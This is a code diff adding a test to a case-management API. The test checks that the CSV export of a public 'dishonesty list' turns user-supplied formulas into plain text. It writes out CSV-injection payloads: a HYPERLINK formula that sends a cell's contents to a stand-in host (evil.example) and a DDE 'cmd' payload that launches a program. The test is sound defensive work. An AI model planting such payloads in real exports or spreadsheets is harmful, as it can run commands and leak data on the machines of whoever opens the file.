@@ -299,3 +299,31 @@ def test_warnings_open_flagged_cases_once_and_a_second_opening_merges(api: Api,
     assert (evidence["tier"], evidence["reasons_en"]) == (tier, w.reasons_en)
     merged = open_case(api, w.entity_id, None, kind=w.entity_kind, expect=200)
     assert merged["id"] == case.id and len(merged["evidence"]) == 2
+
+
+def test_the_exported_list_neutralises_formulas_sent_through_the_api(api: Api,
+                                                                     clock: Clock) -> None:
+    """Names, bases and decision numbers come from users and go to other agencies' Excel:
+    a cell that would run as a formula arrives as text (a leading apostrophe)."""
+    subject = api.entities.institution_in
+    opened = api.post(CASES, "regulator_all", json={
+        "subject_kind": "institution", "subject_id": subject, "conduct": "false_registration",
+        "subject_name": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+        "reason": "registry audit finding"})
+    assert opened.status_code == 201, opened.text
+    cid = opened.json()["case"]["id"]
+    act(api, cid, "investigate", "regulator_all", reason="take it")
+    fields = {"reason": "contracts registered without real transfer",
+              "conduct": "false_registration", "severity": "general",
+              "basis": "=cmd|' /C calc'!A0", "decision_number": "+1+SUM(1)"}
+    act(api, cid, "determine", "regulator_all", 202, **fields)
+    act(api, cid, "determine", "admin", reason="approved")
+    act(api, cid, "notify", "regulator_all", reason="notice served")
+    clock.set(date(2026, 10, 26))
+    act(api, cid, "list", "regulator_all", 202, reason="window closed without objection")
+    act(api, cid, "list", "admin", reason="approved")
+    listed = api.get("/api/v1/dishonesty-list?format=csv", "regulator_all")
+    mine = [r for r in csv.DictReader(io.StringIO(listed.text)) if r["unified_code"] == subject]
+    assert [(r["subject_name"], r["basis"], r["decision_number"]) for r in mine] == [
+        ("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")", "'=cmd|' /C calc'!A0",
+         "'+1+SUM(1)")]
